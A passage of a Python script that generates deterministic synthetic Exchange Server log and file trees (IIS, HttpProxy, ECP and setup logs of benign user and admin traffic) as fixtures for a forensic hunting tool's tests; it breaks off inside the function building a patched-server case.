#!/usr/bin/env python3
"""Synthetic evidence trees for the `exhunt hunt` tests (issue 13).

    make_cases.py OUTDIR [CASE...]     write the cases (all when none is named)
    make_cases.py --list               print the case names
    make_cases.py -q OUTDIR [CASE...]  the same, without the per-case summary

Each case is a folder OUTDIR/CASE. Everything is derived from fixed seeds and
fixed dates (never the wall clock), so two runs write the same bytes, and every
file gets an mtime that matches its content (a log: its last record; a web file:
the day it was installed or planted; a folder: the case's collection time).
Python 3 standard library only. tests/hunt/README.md says what each case is
meant to show and where the formats come from.
"""

import argparse
import datetime as dt
import hashlib
import json
import os
import random
import shutil
import sys
import uuid

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
CLEAN_EXAMPLE = os.path.join(REPO, "examples", "clean-exchange")
COMPROMISED_EXAMPLE = os.path.join(REPO, "examples", "compromised-exchange")
V15 = "Program Files/Microsoft/Exchange Server/V15"
UTC = dt.timezone.utc
BOM = b"\xef\xbb\xbf"

# ---------------------------------------------------------------------------
# Formats (copied from examples/: the header lines and column layouts exhunt
# parses; the column lists are tests/common/exchange_formats.py's).

sys.dont_write_bytecode = True  # nothing written into the source tree
sys.path.insert(0, os.path.join(REPO, "tests", "common"))
from exchange_formats import HTTPPROXY_FIELDS, IIS_FIELDS, csv_field  # noqa: E402

HP_INDEX = {name: i for i, name in enumerate(HTTPPROXY_FIELDS)}


# User agents of each era (the browser, Outlook and iOS builds current then).
ERAS = {
    2018: dict(browser="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                       "Chrome/63.0.3239.132 Safari/537.36",
               browser2="Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:57.0) Gecko/20100101 Firefox/57.0"),
    2021: dict(browser="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                       "Chrome/88.0.4324.190 Safari/537.36",
               browser2="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                        "Chrome/88.0.4324.182 Safari/537.36 Edg/88.0.705.81",
               outlook="Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)",
               phone="Apple-iPhone12C1/1804.52"),
    2022: dict(browser="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                       "Chrome/99.0.4844.82 Safari/537.36",
               browser2="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                        "Chrome/99.0.4844.74 Safari/537.36 Edg/99.0.1150.46",
               outlook="Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.14931; Pro)",
               phone="Apple-iPhone13C2/1904.66"),
    2026: dict(browser="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                       "Chrome/138.0.0.0 Safari/537.36",
               browser2="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                        "Chrome/138.0.0.0 Safari/537.36 Edg/138.0.0.0",
               outlook="Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.19029; Pro)",
               phone="Apple-iPhone17C1/2301.341"),
}

AMPROBE_UA = "AMProbe/Local/ClientAccess"
SID_BASE = "S-1-5-21-3623811015-3361044348-30300820-"
ATTACKER = "203.0.113.66"


# ---------------------------------------------------------------------------
# Small helpers.

def d(y, m, day, h=0, mi=0, s=0, ms=0):
    return dt.datetime(y, m, day, h, mi, s, ms * 1000, tzinfo=UTC)


def days(first, last):
    cur = first
    while cur <= last:
        yield cur
        cur += dt.timedelta(days=1)


def hp_time(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)


def iis_time(t):
    return t.strftime("%Y-%m-%d %H:%M:%S")


def setup_time(t):
    return t.strftime("[%m/%d/%Y %H:%M:%S.") + "%04d]" % (t.microsecond // 100)


def crlf(lines):
    return "".join(line + "\r\n" for line in lines).encode("utf-8")


def rid(rng):
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def b_dotted(b):
    return "%d.%d.%d.%d" % b


def b_padded(b):
    return "%d.%02d.%04d.%03d" % b


def b_cu(b):
    return "%d.%d.%d" % b[:3]


def be_version(b):
    # FEAuth=BEVersion-N in GenericInfo: the back end's version as one integer
    # (major<<22 | minor<<16 | build, with the flag bits the examples show).
    return 0x70000000 | (b[0] << 22) | (b[1] << 16) | 0x8000 | b[2]


class FileSet:
    """Files of one evidence root, as (relative path, bytes, mtime), and empty folders."""

    def __init__(self):
        self.files = {}
        self.empty_dirs = []

    def add(self, rel, data, mtime):
        assert rel not in self.files, rel
        self.files[rel] = (data, mtime)

    def add_dir(self, rel):
        self.empty_dirs.append(rel)


def write_tree(root, fs, mapper=None, empty_dirs=True):
    """Write a FileSet under root (mapper turns a C:\\ relative path into the stored one).
    Collectors (KAPE, Velociraptor) copy files only: they pass empty_dirs=False."""
    mapper = mapper or (lambda rel: rel)
    made = set()
    for rel in sorted(fs.files):
        data, mtime = fs.files[rel]
        path = os.path.join(root, mapper(rel))
        parent = os.path.dirname(path)
        if parent not in made:
            os.makedirs(parent, exist_ok=True)
            made.add(parent)
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        try:
            view = memoryview(data)
            while view:
                view = view[os.write(fd, view):]
            stamp = mtime.timestamp()
            os.utime(fd, (stamp, stamp))
        finally:
            os.close(fd)
    for rel in fs.empty_dirs if empty_dirs else ():
        os.makedirs(os.path.join(root, mapper(rel)), exist_ok=True)


def fix_folder_times(root, when, recursive=True):
    stamp = when.timestamp()
    if not recursive:
        os.utime(root, (stamp, stamp))
        return
    for dirpath, _dirs, _files in os.walk(root, topdown=False):
        os.utime(dirpath, (stamp, stamp))


# ---------------------------------------------------------------------------
# Servers, users and their requests.

class User:
    def __init__(self, name, ip, rid_, display):
        self.name, self.ip, self.sid, self.display = name, ip, SID_BASE + str(rid_), display
        self.smtp = name + "@contoso.com"
        self.nt = "CONTOSO\\" + name


USERS = [User("jdoe", "10.20.1.61", 1107, "John Doe"),
         User("asmith", "10.20.1.77", 1112, "Anna Smith"),
         User("mkhan", "10.20.1.83", 1131, "Maya Khan"),
         User("lpetit", "10.20.1.92", 1140, "Luc Petit")]
ADMIN = User("exadmin", "10.20.1.54", 1124, "Exchange Admin")
MOBILE = User("bwong", "10.20.2.15", 1119, "Ben Wong")
PHONE_ID = "ApplF17XK2C9N7QH"


class Server:
    def __init__(self, case, name, ip, builds, era, ecp_log=False, public="mail.contoso.com"):
        self.case, self.name, self.ip, self.era = case, name, ip, ERAS[era]
        self.fqdn = name.lower() + ".contoso.local"
        self.public = public
        self.builds = builds  # [(first day, (a, b, c, d)), ...] ascending
        self.ecp_log = ecp_log
        digest = hashlib.sha256((case + name).encode()).hexdigest()
        self.health = "HealthMailbox" + digest[:16]
        self.canary = digest[16:59].replace("a", "K").replace("c", "q") + "."

    def build_on(self, day):
        cur = None
        for first, build in self.builds:
            if day >= first:
                cur = build
        assert cur, day
        return cur


class Req:
    """One HTTP request: an IIS line, and (when hp is set) an HttpProxy row."""

    __slots__ = ("t", "method", "stem", "query", "user", "ip", "ua", "referer", "status", "sub",
                 "win32", "taken", "hp", "reqid", "cafe", "ecp")

    def __init__(self, t, method, stem, ip, ua, status=200, query="", user="", referer="",
                 sub=0, win32=0, taken=30, hp=None, cafe=True):
        self.t, self.method, self.stem, self.ip, self.ua = t, method, stem, ip, ua
        self.status, self.query, self.user, self.referer = status, query, user, referer
        self.sub, self.win32, self.taken, self.hp, self.cafe = sub, win32, taken, hp, cafe
        self.reqid = None
        self.ecp = None  # an ECP Server log EventData for this request


def iis_line(srv, r):
    q = r.query
    if r.cafe:
        q = q + "&CorrelationID=<empty>;&cafeReqId=%s;" % r.reqid
    ua = r.ua.replace(" ", "+") if r.ua else "-"
    return " ".join([iis_time(r.t), srv.ip, r.method, r.stem, q or "-", "443", r.user or "-", r.ip, ua,
                     r.referer or "-", str(r.status), str(r.sub), str(r.win32), str(r.taken)])


def hp_row(srv, build, r):
    h = r.hp
    row = [""] * 74

    def put(name, value):
        row[HP_INDEX[name]] = str(value)

    lat = max(3, r.taken - 3)
    end = r.t + dt.timedelta(milliseconds=lat)
    put("DateTime", hp_time(r.t))
    put("RequestId", r.reqid)
    put("MajorVersion", build[0])
    put("MinorVersion", build[1])
    put("BuildVersion", build[2])
    put("RevisionVersion", build[3])
    put("ClientRequestId", h.get("ClientRequestId", ""))
    put("Protocol", h["Protocol"])
    put("UrlHost", h.get("UrlHost", srv.public))
    put("UrlStem", r.stem)
    put("ProtocolAction", h.get("ProtocolAction", ""))
    authed = h.get("user") is not None
    if authed:
        put("AuthenticationType", h["auth"])
        put("AuthenticatedUser", h["user"])
        put("AnchorMailbox", h.get("anchor", ""))
    elif h.get("anchor"):
        put("AnchorMailbox", h["anchor"])
    put("IsAuthenticated", "true" if authed else "false")
    put("UserAgent", r.ua)
    put("ClientIpAddress", r.ip)
    put("ServerHostName", srv.name)
    put("HttpStatus", r.status)
    proxied = h.get("proxied", authed and r.status < 400)
    if proxied:
        put("BackEndStatus", r.status)
        put("ProxyAction", "Proxy")
        put("TargetServer", srv.fqdn)
        put("RoutingHint", h.get("hint", ""))
    put("Method", r.method)
    put("TargetServerVersion", b_padded(build))
    put("RoutingType", "IntraForest")
    put("RequestBytes", h.get("req_bytes", 400))
    put("ResponseBytes", h.get("resp_bytes", 2000))
    put("HttpPipelineLatency", 0)
    put("ActivityContextLifeTime", lat)
    put("ProxyTime", lat - 2)
    put("CoreLatency", lat - 3 if proxied else 0)
    put("RoutingLatency", 1)
    put("HttpProxyOverhead", 2)
    put("TotalRequestTime", lat)
    put("UrlQuery", h.get("UrlQuery", ""))
    put("GenericInfo", "BeginRequest=%s;CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-%d;"
        "ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=%s;"
        % (hp_time(r.t), be_version(build), hp_time(end)))
    put("RoutingStatus", "CafeV1")
    return ",".join(csv_field(v) for v in row)


def step(t, rng, lo=1, hi=4):
    return t + dt.timedelta(seconds=rng.randint(lo, hi), milliseconds=rng.randint(0, 999))


def owa_session(srv, build, u, t, rng):
    ua = srv.era["browser"] if u.name in ("jdoe", "mkhan") else srv.era["browser2"]
    cu = b_cu(build)
    out = [Req(t, "GET", "/owa/", u.ip, ua, 302, taken=rng.randint(3, 8),
               hp=dict(Protocol="Owa", resp_bytes=rng.randint(9000, 12000)))]
    t = step(t, rng, 0, 1)
    out.append(Req(t, "GET", "/owa/auth/logon.aspx", u.ip, ua, 200, taken=rng.randint(20, 45),
                   query="url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0"))
    for asset in ("themes/resources/logon.css", "scripts/premium/flogon.js"):
        out.append(Req(t, "GET", "/owa/auth/%s/%s" % (cu, asset), u.ip, ua, 200, taken=rng.randint(5, 12),
                       referer="https://mail.contoso.com/owa/auth/logon.aspx"))
    t = step(t, rng, 5, 12)
    out.append(Req(t, "POST", "/owa/auth.owa", u.ip, ua, 302, user=u.nt, taken=rng.randint(120, 260),
                   referer="https://mail.contoso.com/owa/auth/logon.aspx"))
    t = step(t, rng, 0, 1)
    anchor = "Sid~" + u.sid
    out.append(Req(t, "GET", "/owa/", u.ip, ua, 200, user=u.nt, taken=rng.randint(80, 200),
                   hp=dict(Protocol="Owa", auth="FBA", user=u.nt, anchor=anchor, hint="Sid-Cookie",
                           resp_bytes=rng.randint(30000, 60000))))
    for action, qid in (("GetOwaUserConfiguration", 2), ("FindFolder", 4), ("FindItem", 7), ("GetItem", 11)):
        t = step(t, rng, 1, 6)
        q = "action=%s&EP=1&ID=-%d&AC=1" % (action, qid)
        out.append(Req(t, "POST", "/owa/service.svc", u.ip, ua, 200, query=q, user=u.nt,
                       taken=rng.randint(30, 400), referer="https://mail.contoso.com/owa/",
                       hp=dict(Protocol="Owa", auth="FBA", user=u.nt, anchor=anchor, hint="Sid-Cookie",
                               ProtocolAction=action, UrlQuery="?" + q,
                               req_bytes=rng.randint(500, 1500), resp_bytes=rng.randint(2000, 40000))))
    return out


def ecp_session(srv, build, u, t, rng):
    ua = srv.era["browser"]
    anchor = "Sid~" + u.sid
    out = [Req(t, "GET", "/ecp/", u.ip, ua, 302, taken=rng.randint(2, 6),
               hp=dict(Protocol="Ecp", UrlHost=srv.fqdn, resp_bytes=rng.randint(9000, 12000)))]
    t = step(t, rng, 4, 9)
    out.append(Req(t, "GET", "/ecp/default.aspx", u.ip, ua, 200, user=u.nt, taken=rng.randint(300, 500),
                   hp=dict(Protocol="Ecp", UrlHost=srv.fqdn, auth="FBA", user=u.nt, anchor=anchor,
                           hint="Sid-Cookie", resp_bytes=rng.randint(4000, 6000))))
    calls = [("GetList", "MailboxService", "Get-Mailbox.ResultSize=Unlimited"),
             ("GetObject", "OrganizationConfiguration", "Get-OrganizationConfig"),
             ("GetList", "ReceiveConnectors", "Get-ReceiveConnector.Server='%s'" % srv.name),
             ("GetList", "DatabaseCopies", "Get-MailboxDatabaseCopyStatus.Server='%s'" % srv.name)]
    for verb, schema, cmd in rng.sample(calls, 2):
        t = step(t, rng, 2, 9)
        q = "schema=%s&msExchEcpCanary=%s" % (schema, srv.canary)
        r = Req(t, "POST", "/ecp/DDI/DDIService.svc/" + verb, u.ip, ua, 200, query=q, user=u.nt,
                taken=rng.randint(150, 450), referer="https://%s/ecp/default.aspx" % srv.fqdn,
                hp=dict(Protocol="Ecp", UrlHost=srv.fqdn, auth="FBA", user=u.nt, anchor=anchor,
                        hint="Sid-Cookie", UrlQuery="?" + q, req_bytes=rng.randint(400, 900),
                        resp_bytes=rng.randint(1500, 9000)))
        r.ecp = (cmd, "/ecp/DDI/DDIService.svc/%s?%s" % (verb, q))
        out.append(r)
    return out


def outlook_session(srv, u, t, rng, stem, proto, hint, gap, taken, req_bytes, resp_bytes, repeat=None):
    """Outlook's POSTs to STEM: the Negotiate challenge's 401, then one
    authenticated request (or rng.randint(*REPEAT) of them); GAP, TAKEN and the
    byte counts are (low, high) ranges."""
    ua = srv.era["outlook"]
    out = [Req(t, "POST", stem, u.ip, ua, 401, sub=2, win32=5, taken=rng.randint(1, 4),
               hp=dict(Protocol=proto, resp_bytes=rng.randint(200, 400)))]
    for _ in range(rng.randint(*repeat) if repeat else 1):
        t = step(t, rng, *gap)
        out.append(Req(t, "POST", stem, u.ip, ua, 200, user=u.nt, taken=rng.randint(*taken),
                       hp=dict(Protocol=proto, auth="Negotiate", user=u.nt, anchor="Smtp~" + u.smtp,
                               hint=hint, req_bytes=rng.randint(*req_bytes),
                               resp_bytes=rng.randint(*resp_bytes))))
    return out


def ews_session(srv, build, u, t, rng):
    return outlook_session(srv, u, t, rng, "/EWS/Exchange.asmx", "Ews", "Smtp-AnchorMailboxHeader",
                           gap=(0, 3), taken=(15, 120), req_bytes=(900, 3000), resp_bytes=(1500, 20000),
                           repeat=(1, 3))


def autodiscover_session(srv, build, u, t, rng):
    return outlook_session(srv, u, t, rng, "/Autodiscover/Autodiscover.xml", "Autodiscover",
                           "Smtp-AutoDiscoverBody", gap=(0, 1), taken=(60, 180), req_bytes=(600, 900),
                           resp_bytes=(4000, 9000))


def eas_session(srv, build, u, t, rng):
    ua = srv.era["phone"]
    out = []
    for cmd in ("Sync", "Ping"):
        q = "Cmd=%s&User=%s&DeviceId=%s&DeviceType=iPhone" % (cmd, u.name, PHONE_ID)
        taken = rng.randint(40, 300) if cmd == "Sync" else rng.randint(470000, 480000)
        out.append(Req(t, "POST", "/Microsoft-Server-ActiveSync/default.eas", u.ip, ua, 200, query=q,
                       user=u.nt, taken=taken,
                       hp=dict(Protocol="Eas", auth="Basic", user=u.nt, anchor="Sid~" + u.sid,
                               hint="Sid-Cookie", ProtocolAction=cmd, UrlQuery="?" + q,
                               req_bytes=rng.randint(200, 700), resp_bytes=rng.randint(100, 6000))))
        t = step(t, rng, 1, 3)
    return out


def amprobe(srv, build, t, rng):
    user = "CONTOSO.LOCAL\\" + srv.health
    return [Req(t, "GET", "/ecp/", "::1", AMPROBE_UA, 200, user=user, taken=rng.randint(25, 40),
                hp=dict(Protocol="Ecp", UrlHost="localhost", auth="Negotiate", user=user,
                        anchor="Smtp~%s@contoso.local" % srv.health, hint="Smtp-UrlQuery",
                        req_bytes=rng.randint(180, 850), resp_bytes=rng.randint(1200, 11000)))]


HEALTH_VDIRS = ["owa", "ecp", "EWS", "Microsoft-Server-ActiveSync", "Autodiscover", "OAB", "mapi"]


def healthchecks(srv, day, rng, every_min=60):
    out = []
    n = 0
    for minute in range(0, 24 * 60, every_min):
        t = day + dt.timedelta(minutes=minute, seconds=4, milliseconds=rng.randint(0, 999))
        vdir = HEALTH_VDIRS[n % len(HEALTH_VDIRS)]
        n += 1
        out.append(Req(t, "GET", "/%s/healthcheck.htm" % vdir, "::1", AMPROBE_UA, 200,
                       taken=rng.randint(2, 20), cafe=False))
    return out


SESSIONS = [owa_session, ews_session, autodiscover_session, eas_session]


def day_traffic(srv, day, rng, hours_weekday, hours_weekend, per_hour, admin=1.0, per_hour_weekend=None):
    """Benign requests of one day: health checks all day, users in a few hours (in the others
    only the health checks: the brief keeps it to a few HttpProxy files a day)."""
    build = srv.build_on(day)
    weekday = day.weekday() < 5
    n_hours = hours_weekday if weekday else hours_weekend
    if not weekday and per_hour_weekend:
        per_hour = per_hour_weekend
    hours = sorted(rng.sample(range(7, 18), n_hours))
    reqs = healthchecks(srv, day, rng)
    for i, h in enumerate(hours):
        base = day + dt.timedelta(hours=h)
        reqs += amprobe(srv, build, base + dt.timedelta(seconds=41, milliseconds=rng.randint(0, 999)), rng)
        # OWA, EWS, Autodiscover and ActiveSync in turn, from one hour and day to the next
        kinds = [SESSIONS[(day.toordinal() + i * per_hour + k) % len(SESSIONS)] for k in range(per_hour)]
        for k, kind in enumerate(kinds):
            u = MOBILE if kind is eas_session else rng.choice(USERS)
            t = base + dt.timedelta(minutes=2 + k * (50 // max(per_hour, 1)) + rng.randint(0, 5),
                                    seconds=rng.randint(0, 59), milliseconds=rng.randint(0, 999))
            reqs += kind(srv, build, u, t, rng)
        if weekday and i == 0 and rng.random() < admin:
            t = base + dt.timedelta(minutes=rng.randint(40, 50), seconds=rng.randint(0, 59))
            reqs += ecp_session(srv, build, ADMIN, t, rng)
    return reqs


# ---------------------------------------------------------------------------
# Writing a server's logs.

class Counts:
    def __init__(self):
        self.c = {}

    def add(self, family, records):
        f, r = self.c.get(family, (0, 0))
        self.c[family] = (f + 1, r + records)

    def text(self):
        return ", ".join("%s %d files/%d records" % (k, v[0], v[1]) for k, v in sorted(self.c.items()))


def add_day_logs(fs, srv, day, reqs, rng, counts, httpproxy=True, ecp_only=()):
    """Write one day of a server's logs. ecp_only: ECP Server lines with no request of their own."""
    reqs.sort(key=lambda r: r.t)
    build = srv.build_on(day) if srv.builds else None
    for r in reqs:
        r.reqid = rid(rng)
    # IIS W3C, one file a day (UTC), header written with the first request
    lines = ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
             "#Date: " + iis_time(reqs[0].t), "#Fields: " + IIS_FIELDS]
    lines += [iis_line(srv, r) for r in reqs]
    fs.add("inetpub/logs/LogFiles/W3SVC1/u_ex%s.log" % day.strftime("%y%m%d"), crlf(lines),
           reqs[-1].t + dt.timedelta(milliseconds=reqs[-1].taken))
    counts.add("iis-w3c", len(reqs))
    # HttpProxy: hourly files per protocol, UTF-8 BOM, CRLF
    if httpproxy:
        groups = {}
        for r in reqs:
            if r.hp:
                groups.setdefault((r.hp["Protocol"], r.t.hour), []).append(r)
        for (proto, hour), rows in sorted(groups.items()):
            opened = day + dt.timedelta(hours=hour, milliseconds=rng.randint(20, 90))
            head = ["#Software: Microsoft Exchange Server", "#Version: " + b_padded(build),
                    "#Log-type: HttpProxy Logs", "#Date: " + hp_time(opened),
                    "#Fields: " + ",".join(HTTPPROXY_FIELDS)]
            body = [hp_row(srv, build, r) for r in rows]
            rel = "%s/Logging/HttpProxy/%s/HttpProxy_%s%02d-1.LOG" % (V15, proto, day.strftime("%Y%m%d"), hour)
            fs.add(rel, BOM + crlf(head + body), rows[-1].t + dt.timedelta(milliseconds=rows[-1].taken))
            counts.add("exchange-httpproxy", len(rows))
    # ECP Server log, one file a day, for the servers that keep it here
    if srv.ecp_log:
        ecp = sorted([r for r in list(reqs) + list(ecp_only) if r.ecp], key=lambda r: r.t)
        if ecp:
            head = ["#Software: Microsoft Exchange Server", "#Version: 15.0.0.0", "#Log-type: ECP Server Log",
                    "#Date: " + hp_time(ecp[0].t - dt.timedelta(milliseconds=7)),
                    "#Fields: TimeStamp,ServerName,EventId,EventData"]
            sid = rid(random.Random("%s/%s/ecp-session" % (srv.case, srv.name)))
            usid = rid(random.Random("%s/%s/ecp-usid" % (srv.case, srv.name)))
            body = []
            for r in ecp:
                cmd, url = r.ecp
                data = ("S:TIME=%d;S:SID=%s;S:CMD=%s;S:REQID=;S:URL=%s;S:REFERRER=;S:EX=;S:ACTID=%s;S:RS=0;"
                        "S:BLD=%s;S:TNAME=<null>;S:TID=;S:USID=%s;S:EDOID=;S:ACID="
                        % (max(40, r.taken - 6), sid, cmd, url, rid(rng), b_dotted(build), usid))
                t = r.t - dt.timedelta(milliseconds=rng.randint(3, 40))
                body.append("%s,%s,ECP.Request,%s" % (hp_time(t), srv.name, csv_field(data)))
            rel = "%s/Logging/ECP/Server/ECPServer%s-1.LOG" % (V15, day.strftime("%Y%m%d"))
            fs.add(rel, BOM + crlf(head + body), ecp[-1].t)
            counts.add("exchange-ecp-server", len(body))


def add_exchange_web(fs, srv_build, installed, os_installed):
    """The benign web files of examples/clean-exchange, under this server's CU folder."""
    cu = b_cu(srv_build)
    for dirpath, _dirs, files in os.walk(CLEAN_EXAMPLE):
        for name in files:
            src = os.path.join(dirpath, name)
            rel = os.path.relpath(src, CLEAN_EXAMPLE).replace(os.sep, "/")
            if name == ".keep" or rel.lower().endswith(".log") or "/Logging/" in rel:
                continue
            rel = rel.replace("/auth/15.1.2106/", "/auth/%s/" % cu)
            with open(src, "rb") as f:
                data = f.read()
            fs.add(rel, data, os_installed if rel.startswith("inetpub/") else installed)
    fs.add_dir("inetpub/wwwroot/aspnet_client/system_web/4_0_30319")


# ---------------------------------------------------------------------------
# Cases.

def exch_server(case, builds, era=2021, name="EXCH", ip="192.0.2.25", ecp_log=False):
    return Server(case, name, ip, builds, era, ecp_log=ecp_log)


CU18 = (15, 1, 2106, 2)
CU19 = (15, 1, 2176, 2)
CU19_MAR21SU = (15, 1, 2176, 9)
CU22_MAR22SU = (15, 1, 2375, 24)
SE_RTM = (15, 2, 2562, 17)
SE_JUL26SU = (15, 2, 2562, 45)
SE_SEP26SU = (15, 2, 2562, 49)


def make_one_day(out, counts):
    srv = exch_server("one-day", [(d(2020, 10, 20), CU18)])
    fs = FileSet()
    add_exchange_web(fs, CU18, d(2020, 10, 20, 21, 14, 7), d(2020, 6, 2, 9, 30, 12))
    day = d(2021, 3, 2)
    rng = random.Random("one-day/EXCH/2021-03-02")
    add_day_logs(fs, srv, day, day_traffic(srv, day, rng, 5, 1, 4), rng, counts)
    write_tree(out, fs)
    fix_folder_times(out, d(2021, 3, 3, 9, 12))
    return fs


def make_full_coverage(out, counts):
    srv = exch_server("full-coverage", [(d(2020, 12, 21), CU19), (d(2021, 3, 5), CU19_MAR21SU)])
    fs = FileSet()
    add_exchange_web(fs, CU19, d(2020, 12, 21, 20, 41, 55), d(2020, 6, 2, 9, 30, 12))
    for day in days(d(2020, 12, 28), d(2021, 3, 10)):
        rng = random.Random("full-coverage/EXCH/" + day.strftime("%Y-%m-%d"))
        add_day_logs(fs, srv, day, day_traffic(srv, day, rng, 3, 1, 3, admin=0.5), rng, counts)
    write_tree(out, fs)
    fix_folder_times(out, d(2021, 3, 11, 8, 5))
    return fs


def se_setup_log(host, start):
    """C:\\ExchangeSetupLogs\\ExchangeSetup.log of a fresh SE RTM install (abridged: the real
    file runs to thousands of lines; the lines kept are the ones reviewers read)."""
    rng = random.Random("clean-patched/setup")
    t = start
    out = []

    def log(text, level=0, lo=0, hi=40):
        nonlocal t
        t = t + dt.timedelta(microseconds=100 * rng.randint(lo * 10, hi * 10))
        out.append("%s [%d] %s" % (setup_time(t), level, text))

    def gap(seconds):
        nonlocal t
        t = t + dt.timedelta(seconds=seconds)

    star = "*" * 46
    log(star)
    log("Starting Microsoft Exchange Server Subscription Edition Setup")
    log(star)
    log("Local time zone: (UTC) Coordinated Universal Time.")
    log("Operating system version: Microsoft Windows NT 6.2.9200.0.")
    log("Setup version: 15.2.2562.17.")
    log("Logged on user: CONTOSO\\admin.")
    log("Command Line Parameter Name='mode', Value='Install'.")
    log("Command Line Parameter Name='roles', Value='Mailbox'.")
    log("Command Line Parameter Name='iacceptexchangeserverlicenseterms_diagnosticdataoff', Value=''.")
    log("Command Line Parameter Name='sourcedir', Value='D:\\'.")
    log("RuntimeAssembly was started with the following command: '/mode:Install /roles:Mailbox "
        "/IAcceptExchangeServerLicenseTerms_DiagnosticDataOFF /sourcedir:D:'.")
    log("The registry key, HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Exchange\\v8.0, wasn't found.")
    log("The registry key, HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\ExchangeServer\\v14, wasn't found.")
    log("Copying Files...")
    log("Starting copy from D:\\Setup\\ServerRoles\\Common to C:\\Windows\\Temp\\ExchangeSetup.")
    gap(9)
    log("Finished copy from D:\\Setup\\ServerRoles\\Common to C:\\Windows\\Temp\\ExchangeSetup.")
    log("File copy complete.  Setup will now collect additional information needed for installation.")
    out.append("")
    log("Assembly dll file location is C:\\Windows\\Temp\\ExchangeSetup\\Microsoft.Exchange.Setup.Console.dll")
    gap(2)
    log("Setup is choosing the domain controller to use")
    gap(5)
    log("Setup is choosing a local domain controller...")
    log("Setup has chosen the local domain controller DC01.contoso.local for initial queries")
    log("PrepareAD has been run, and has replicated to this domain controller; so setup will use DC01.contoso.local")
    log("Setup is choosing a global catalog...")
    log("Setup has chosen the global catalog server DC01.contoso.local.")
    log("Setup will use the domain controller 'DC01.contoso.local'.")
    log("Setup will use the global catalog 'DC01.contoso.local'.")
    log("Exchange configuration container for the organization is "
        "'CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local'.")
    log("Exchange organization container for the organization is "
        "'CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local'.")
    log("Setup will search for an Exchange Server object for the local machine with name '%s'." % host)
    log("No Exchange Server with identity '%s' was found." % host)
    log("The following roles have been unpacked: ")
    log("The following datacenter roles are unpacked: ")
    log("The following roles are installed: ")
    log("The local server does not have any Exchange files installed.")
    log("Server Name=%s" % host)
    log("Setup will use the path 'D:\\' for installing Exchange.")
    log("The installation mode is set to: 'Install'.")
    gap(6)
    log("An Exchange organization with name 'Contoso' was found in this forest.")
    log("Active Directory Initialization status : 'True'.")
    log("Schema Update Required Status : 'False'.")
    log("Organization Configuration Update Required Status : 'False'.")
    log("Domain Configuration Update Required Status : 'False'.")
    log("Applying default role selection state")
    log("Setup is determining what organization-level operations to perform.")
    log("Setup will run from path 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\'.")
    log("InstallModeDataHandler has 5 DataHandlers")
    log("RootDataHandler has 1 DataHandlers")
    for part in ("Languages", "Management tools", "Mailbox role: Transport service",
                 "Mailbox role: Client Access service", "Mailbox role: Mailbox service",
                 "Mailbox role: Front End Transport service", "Mailbox role: Client Access Front End service"):
        log("     " + part)
    log("Validating options for the 7 requested roles")
    log("Performing Microsoft Exchange Server Prerequisite Check")
    log("**************")
    gap(4)
    log('Evaluated [Setting:ComputerNameDnsFullyQualified] [HasException:False] [Value:"%s.contoso.local"] '
        '[ParentValue:"<NULL>"] [Thread:11] [Duration:00:00:00]' % host, level=1)
    gap(95)
    for comp, what in (("Stopping Services", "Stopping services."),
                       ("Copy Exchange Files", "Copying Exchange files."),
                       ("Mailbox role: Transport service", "Configuring the Mailbox role: Transport service."),
                       ("Mailbox role: Client Access service", "Configuring the Mailbox role: Client Access service."),
                       ("Mailbox role: Mailbox service", "Configuring the Mailbox role: Mailbox service."),
                       ("Mailbox role: Client Access Front End service",
                        "Configuring the Mailbox role: Client Access Front End service."),
                       ("Finalizing Setup", "Finalizing setup.")):
        log("Processing component '%s' (%s)." % (comp, what), level=1)
        gap(rng.randint(120, 600))
    log("Finished executing component tasks.", level=1)
    log("Ending processing Install-FrontendTransportRole", level=1)
    log("The Exchange Server setup operation completed successfully.")
    out.append("")
    for where in ("console.ProcessRunInternal:205", "launcherbase.maincore:90", "console.startmain:52",
                  "SetupLauncherHelper.loadassembly:452"):
        log("CurrentResult %s: 0" % where)
    log("CurrentResult main.run:235: 0")
    log("CurrentResult setupbase.maincore:396: 0")
    log("End of Setup")
    log(star)
    out.append("")
    return crlf(out), t


def make_clean_patched(out, counts):
    srv = Server("clean-patched", "EXSE01", "192.0.2.40",
                 [(d(2025, 8, 15), SE_RTM), (d(2026, 7, 21), SE_JUL26SU), (d(2026, 9, 15), SE_SEP26SU)], 2026)
    fs = FileSet()
    data, done = se_setup_log("EXSE01", d(2025, 8, 15, 10, 12, 1, 12))
    fs.add("ExchangeSetupLogs/ExchangeSetup.log", data, done)
    add_exchange_web(fs, SE_RTM, done, d(2025, 8, 14, 15, 2, 40))
    for day in days(d(2026, 4, 20), d(2026, 11, 30)):
